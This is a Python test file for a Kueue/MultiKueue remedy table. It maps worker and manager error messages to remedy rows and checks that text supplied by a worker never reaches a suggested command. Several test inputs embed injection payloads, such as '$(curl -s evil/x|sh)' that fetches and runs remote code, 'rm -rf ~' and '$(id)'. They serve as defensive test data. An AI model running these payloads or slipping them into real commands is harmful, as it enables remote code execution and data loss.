"""The table of remedies: each row is reached by words that Kueue, an API server or the daemon really says."""

from __future__ import annotations

import string

import pytest

from multikueued.reports.check_remedies import CHECK_RULES, MANAGER_RULES
from multikueued.reports.remedies import RemedyRule, filled, found_by
from multikueued.reports.remedy_table import WORKER_RULES, about_worker

CONTEXT = {
    "namespace": "team",
    "queue": "q",
    "job": "job/a",
    "secrets": "kueue-system",
    "cluster_queue": "cq",
    "worker": "w1",
    "workload": "job-a",
}
DENIED = 'pods is forbidden: User "x" cannot create resource "pods" in API group "" in the namespace "team"'
WORKERS = [
    ("kubeconfig-key", 'load client config failed: key "kubeconfig" not found in secret "s"'),
    ("kubeconfig-secret", 'load client config failed: Secret "s" not found'),
    ("cluster-profile-off", "load client config failed: MultiKueueClusterProfile feature gate is disabled"),
    (
        "cluster-profile-missing",
        'load client config failed: ClusterProfile.multicluster.x-k8s.io "p" not found',
    ),
    (
        "cluster-profiles-unread",
        "load client config failed: clusterprofiles.multicluster.x-k8s.io cannot be read: manager: list: not found",
    ),
    (
        "cluster-profile-unreadable",
        'load client config failed: ClusterProfile "p" cannot be read: spec is not an object',
    ),
    ("cluster-profile-no-provider", "load client config failed: no access provider configured"),
    ("cluster-profile-no-provider", 'load client config failed: no exec config found for provider "x"'),
    (
        "cluster-profile-other-provider",
        'load client config failed: no matching cluster accessor found for cluster profile "p"',
    ),
    (
        "cluster-profile-name",
        "load client config failed: getting credentials: missing ExecCredential.Spec.Cluster.Config",
    ),
    (
        "cluster-profile-token",
        "load client config failed: getting credentials: failed to get secret kueue-system/p-multikueue: none is owned",
    ),
    (
        "cluster-profile-token",
        'load client config failed: getting credentials: secret kueue-system/p-multikueue missing "token" key',
    ),
    (
        "cluster-profile-additions",
        "load client config failed: failed to unmarshal additional CLI args extension: write it as",
    ),
    ("credential-plugin", "getting credentials: exec: executable /bin/login failed with exit code 3"),
    ("kubeconfig-refused", "load client config failed: untrusted server endpoint"),
    ("kubeconfig-refused", "load client config failed: tokenFile is not allowed"),
    ("bad-token", "w1: list workloads.kueue.x-k8s.io: Unauthorized"),
    ("rbac", f"w1: create pods: {DENIED}"),
    ("webhook", 'admission webhook "v.example.com" denied the request: no namespaces "x" not found'),
    ("webhook-down", 'Internal error occurred: failed calling webhook "v.example.com": connection refused'),
    ("dependency-unread", f'ConfigMap "a" cannot be read on the manager cluster: m: get configmaps: {DENIED}'),
    ("dependency-nowhere", 'ConfigMap "a" is neither on the manager cluster nor there'),
    ("dependency-not-copied", 'ServiceAccount "robot" is not there, and is never copied'),
    ("dependency-in-use", 'ConfigMap "a" has other content there, which Workload "job-x-1a2b3" uses'),
    ("dependency-foreign", 'ConfigMap "a" there is not a copy of ours, or was changed, and has other content'),
    ("dependency-going", 'ConfigMap "a" of an earlier job is still being removed there'),
    ("dependency-too-much", 'ConfigMap "a" is larger than 1 MiB and is not copied'),
    ("name-taken", "its name is taken by an object that is not known as a copy of ours"),
    ("name-taken", 'jobs.batch "team/a" exists on worker cluster "w1" and is not known as a copy of ours: rename'),
    ("namespace-missing", 'namespaces "team" not found'),
    ("namespace-terminating", "unable to create new content in namespace team because it is being terminated"),
    ("local-queue-missing", "LocalQueue q doesn't exist"),
    ("queue-inactive", "ClusterQueue cq is inactive"),
    ("queue-inactive", "LocalQueue q is inactive"),
    ("quota-in-use", "insufficient unused quota for cpu in flavor f, 2 more needed"),
    ("quota-in-use", "may not preempt there yet: Waiting for preemption"),
    ("quota-too-small", "insufficient quota for nvidia.com/gpu in flavor f (3 > 1)"),
    ("resource-quota", 'pods "a" is forbidden: exceeded quota: compute, requested: cpu=1'),
    ("crd-missing", "w1: list jobs.batch: the server could not find the requested resource"),
    ("crd-missing", "does not serve the job's kind"),
    ("crd-field", "its CustomResourceDefinition has no field .spec.suspend (x.suspendPath) in version v1"),
    ("untrusted-certificate", "w1: list workloads: the server's certificate is not trusted"),
    ("clock-skew", "token used before issued"),
    ("name-lookup", "w1: list workloads: cannot connect: Name or service not known"),
    ("worker-hung", "workloads.kueue.x-k8s.io: no answer to anything for 20 s"),
    ("worker-hung", "w1: list workloads: cannot connect: no answer in time"),
    ("worker-down", "w1: list workloads: cannot connect: Connection refused"),
    ("worker-down", "w1: list workloads: Server disconnected"),
    ("worker-down", "unreachable since 2026-01-01T00:00:00Z; moves at 2026-01-01T00:15:00Z"),
    ("answers-unreadable", "answers with more than may be read"),
    ("connecting", "connecting"),
    ("cordoned", "cordoned: disks are changed"),
    ("worker-is-manager", "it is the manager itself, so copies need namespaces of their own: name them"),
    ("worker-names", "its annotation multikueue.dev/namespaces cannot be used: it is no JSON"),
    ("namespace-unnamed", 'multikueue.dev/namespaces gives namespace "team-a" none there'),
]
CHECKS = [
    ("kind-not-enabled", 'No multikueue adapter found for owner kind "batch/v1, Kind=Job", Previously: "Pending"'),
    (
        "not-delegated",
        'The owner is not managed by Kueue: Expecting spec.managedBy to be "k" not "", Previously: "Pending"',
    ),
    ("not-delegated", 'Expecting spec.managedBy to be "k" not "": create the job again with that value, or enable it'),
    (
        "acted-on-here",
        'A controller of the manager acts on the job and would run it here, too: "manager" has written its status '
        'although spec.managedBy is "k"; Trainer v2.3.0 is the first version that heeds the field: upgrade it on the '
        "manager",
    ),
    ("cannot-be-copied", "The job cannot be copied: rule x failed"),
    ("other-checks", "Waiting for the other admission checks"),
    ("job-not-seen", "Waiting for its job to be seen"),
    ("delegation-unknown", "It cannot be told who runs the job: rule x failed"),
    ("no-worker-known", "Offered to no worker cluster: the MultiKueueConfig lists none that is known"),
    (
        "recorded-twice",
        'No admitting cluster is recorded: worker clusters "a" and "b" have it: remove it from all but one',
    ),
    ("time-is-over", 'exceeding the maximum execution time on worker cluster "a"'),
]
MANAGER = [
    ("quota-too-small", "insufficient quota for cpu in flavor f, ... > maximum capacity (8)"),
    ("quota-in-use", "insufficient unused quota for cpu in flavor f, 2 more needed"),
]


@pytest.mark.parametrize(
    ("rules", "expected", "told"),
    [
        (rules, expected, told)
        for rules, rows in ((WORKER_RULES, WORKERS), (CHECK_RULES, CHECKS), (MANAGER_RULES, MANAGER))
        for expected, told in rows
    ],
)
def test_words_lead_to_their_row(rules: tuple[RemedyRule, ...], expected: str, told: str) -> None:
    found = found_by(rules, "w1", told, CONTEXT, own=True)

    assert found is not None
    assert found.id == expected
    for text in (found.why, found.remedy):
        assert text
        assert "{" not in text
        assert "  " not in text


@pytest.mark.parametrize(("rules", "rows"), [(WORKER_RULES, WORKERS), (CHECK_RULES, CHECKS), (MANAGER_RULES, MANAGER)])
def test_every_row_is_reached(rules: tuple[RemedyRule, ...], rows: list[tuple[str, str]]) -> None:
    reached = {
        next(number for number, rule in enumerate(rules) if rule.pattern.search(told) is not None) for _, told in rows
    }
    assert reached == set(range(len(rules)))


def test_the_setting_for_a_kind_is_named() -> None:
    found = found_by(
        CHECK_RULES, "x", 'No multikueue adapter found for owner kind "ray.io/v1, Kind=RayJob"', CONTEXT, own=True
    )
    assert found is not None
    assert 'add "ray.io/rayjob" to integrations.frameworks' in found.remedy


def test_words_that_nobody_knows() -> None:
    refused = about_worker("w1", "the moon is in the wrong house", CONTEXT)
    assert (refused.id, refused.why) == ("unknown", "w1 says: the moon is in the wrong house")
    assert "multikueue retry job/a" in refused.remedy
    away = about_worker("w1", "the moon is in the wrong house", CONTEXT, connected=False)
    assert away.id == "worker-not-connected"
    assert "retry" not in away.remedy


def test_a_worker_cannot_say_that_our_plugin_failed() -> None:
    """Its words stand behind its name, the verb and the resource."""
    told = "w1: list workloads.kueue.x-k8s.io: getting credentials: exec: executable /bin/login failed"
    assert about_worker("w1", told, CONTEXT).id != "credential-plugin"


@pytest.mark.parametrize(
    "told",
    [
        'workloads is forbidden: Secret "oslo$(curl -s evil/x|sh)" not found',
        'key "x" not found in secret "y; rm -rf ~"',
        'ClusterProfile "$(id)" cannot be read: x',
        'cluster profile: no matching cluster accessor found for cluster profile "`id`"',
        "load client config failed: MultiKueueClusterProfile feature gate is disabled",
        "cordoned",
    ],
)
def test_what_a_worker_says_never_meets_a_row_about_our_configuration(told: str) -> None:
    """A worker that answered 403 with such a text had `status` and `explain` print its command to paste."""
    found = about_worker("w1", told, CONTEXT)
    own = {rule.id for rule in WORKER_RULES if rule.own}
    assert found.id not in own
    for text in ("curl", "rm -rf", "$(", "`"):
        assert text not in found.remedy


@pytest.mark.parametrize(
    "name", ["--all", "-A", "a b", "a;b", "$(id)", "`id`", "a|b", "a\nb", "..", "", "a" * 254, "é", "\u202ea"]
)
def test_what_is_no_name_enters_no_command(name: str) -> None:
    told = f'LocalQueue "{name}" is inactive'
    found = found_by(WORKER_RULES, "w1", told, CONTEXT)
    assert found is None or name in ("", "a\nb") or name not in found.remedy.split()
    for template in ("kubectl get {name}", "multikueue retry {name}"):
        remedy = filled(template, {"name": name})
        assert remedy in (
            template.format(name=""),
            "mend what it names; no command is shown, as a name in these words is none that Kubernetes allows",
        )


@pytest.mark.parametrize("name", ["train", "job/train", "job.batch/train-1", "Team.x_y"])
def test_names_enter_commands_as_they_are(name: str) -> None:
    assert filled("multikueue retry {job}", {"job": name}) == f"multikueue retry {name}"


@pytest.mark.parametrize("rules", [WORKER_RULES, CHECK_RULES, MANAGER_RULES])
def test_no_row_puts_whole_sentences_into_its_remedy(rules: tuple[RemedyRule, ...]) -> None:
    """But the setting of a kind, which is ours."""
    fields = {field for rule in rules for _, field, _, _ in string.Formatter().parse(rule.remedy) if field}
    assert not fields & {"told", "said", "why"}


def test_an_event_is_no_word_of_ours() -> None:
    """Whoever may write events writes any `reportingController`."""
    forged = 'No multikueue adapter found for owner kind "$(id)/v1, Kind=X"'
    assert found_by(CHECK_RULES, "x", forged, CONTEXT) is None
